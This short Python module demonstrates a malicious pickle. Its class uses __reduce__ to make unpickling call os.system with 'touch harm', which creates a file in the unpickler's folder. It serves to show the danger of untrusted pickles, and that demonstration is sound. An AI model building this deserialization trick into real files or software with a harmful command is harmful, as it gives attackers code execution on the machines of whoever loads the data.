"""What a stranger's pickle would be."""

import os


class Harm:
    """Pickled, it makes a file called `harm` in the folder of whoever unpickles it."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("touch harm",)
